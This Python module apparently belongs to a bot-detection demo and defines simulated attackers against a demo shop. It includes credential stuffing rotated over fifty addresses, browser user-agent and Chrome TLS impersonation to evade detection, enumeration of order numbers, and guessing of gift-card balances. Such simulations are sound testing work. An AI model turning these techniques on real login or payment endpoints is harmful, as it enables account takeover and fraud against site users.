"""Attackers that nobody announced: slow, spread over many addresses, or dressed as browsers."""

from __future__ import annotations

import asyncio
import itertools
import time
from typing import Literal

import aiohttp
import httpx
import requests
from curl_cffi import CurlError
from curl_cffi import requests as impersonating

from demo.bots.attackers import BROWSER_AGENT, credentials, each, send, session
from demo.bots.field import Field
from demo.shop import catalogue

__all__ = ["aiohttp_stuffer", "card_guesser", "httpx_stuffer", "impersonating_stuffer", "order_walker", "slow_scraper"]

ADDRESSES = 50


def slow_scraper(field: Field) -> None:
    """One product a second from one address, with a browser's user agent on ``requests``, in no order."""
    numbers = [product.id for product in catalogue.products()]
    field.rng(3).shuffle(numbers)

    def act(web: requests.Session, number: int) -> None:
        send(field, web, field.address, "GET", f"/api/products/{number}")

    each(field, itertools.cycle(numbers), 1.0, 1, act, {"user-agent": BROWSER_AGENT, "accept": "*/*"})


def httpx_stuffer(field: Field) -> None:
    """Leaked credentials over fifty addresses, five tries a second in all, a new connection for each."""
    pairs = credentials(field)

    for number in itertools.count():
        if field.is_over():
            return
        email, password = next(pairs)
        address, sent, status, kind = field.source(number % ADDRESSES), time.time(), 0, ""
        try:
            with httpx.Client(transport=httpx.HTTPTransport(local_address=address, verify=False)) as web:
                answer = web.post(field.url + "/api/login", json={"email": email, "password": password})
            status, kind = answer.status_code, answer.headers.get("content-type", "")
        except httpx.HTTPError:
            pass
        field.log.note(sent, address, "/api/login", status, kind)
        time.sleep(0.2)


def aiohttp_stuffer(field: Field) -> None:
    """The same with ``aiohttp`` and a browser's user agent: fifty addresses, ten tries a second in all."""
    asyncio.run(_aiohttp_stuffer(field))


async def _aiohttp_stuffer(field: Field) -> None:
    pairs = credentials(field)

    async def one(address: str) -> None:
        email, password = next(pairs)
        sent, status, kind = time.time(), 0, ""
        connector = aiohttp.TCPConnector(local_addr=(address, 0), ssl=False)
        try:
            async with (
                aiohttp.ClientSession(connector=connector, headers={"user-agent": BROWSER_AGENT}) as web,
                web.post(field.url + "/api/login", json={"email": email, "password": password}) as answer,
            ):
                status, kind = answer.status, answer.headers.get("content-type", "")
        except (aiohttp.ClientError, TimeoutError):
            pass
        field.log.note(sent, address, "/api/login", status, kind)

    async with asyncio.TaskGroup() as tasks:
        for number in itertools.count():
            if field.is_over():
                break
            tasks.create_task(one(field.source(number % ADDRESSES)))
            await asyncio.sleep(0.1)


def impersonating_stuffer(field: Field) -> None:
    """Leaked credentials, some eight a second, with a browser's handshake and headers (curl_cffi) but no cookies."""
    version: Literal["v1", "v2"] = "v2" if field.url.startswith("https") else "v1"
    for email, password in credentials(field):
        if field.is_over():
            return
        sent, status, kind = time.time(), 0, ""
        try:
            answer = impersonating.post(
                field.url + "/api/login",
                json={"email": email, "password": password},
                impersonate="chrome",
                interface=field.address,
                verify=False,
                http_version=version,
            )
            status, kind = answer.status_code, answer.headers.get("content-type") or ""
        except CurlError:
            pass
        field.log.note(sent, field.address, "/api/login", status, kind)
        time.sleep(0.1)


def order_walker(field: Field) -> None:
    """Sign in with a real account and walk over order numbers, four a second."""
    email, password = catalogue.account(1900)
    web = session(field.address, {"user-agent": BROWSER_AGENT})
    send(field, web, field.address, "POST", "/api/login", json={"email": email, "password": password})
    for number in itertools.count(catalogue.FIRST_ORDER):
        if field.is_over():
            return
        send(field, web, field.address, "GET", f"/api/orders/{number}")
        time.sleep(0.25)


def card_guesser(field: Field) -> None:
    """Ask for the balance of invented gift cards, three a second."""
    rng = field.rng(4)

    web = session(field.address, {"user-agent": BROWSER_AGENT})
    while not field.is_over():
        send(field, web, field.address, "GET", f"/api/gift-cards/{rng.getrandbits(64):016X}")
        time.sleep(0.3)
